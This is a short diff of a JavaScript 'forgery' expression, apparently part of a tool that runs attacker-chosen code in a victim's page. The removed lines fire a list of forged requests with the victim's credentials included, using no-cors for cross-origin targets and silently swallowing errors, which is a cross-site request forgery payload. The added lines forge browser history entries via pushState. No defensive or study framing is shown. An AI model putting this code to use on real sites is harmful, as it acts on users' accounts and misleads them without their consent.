@@ -1,14 +1,5 @@
 // An expression: the argument of the forgery comes after it, in brackets.
-(async (want) => {
-	for (const r of want.requests) {
-		const options = {method: r.method, credentials: "include"}
-		if (r.body) {
-			options.body = r.body
-			options.headers = {"content-type": r.type}
-		}
-		if (new URL(r.url).origin !== location.origin) options.mode = "no-cors"
-		await fetch(r.url, options).catch(() => {})
-	}
+((want) => {
 	for (const url of want.urls) {
 		try { history.pushState(null, "", url) } catch (e) { /* another host */ }
 	}
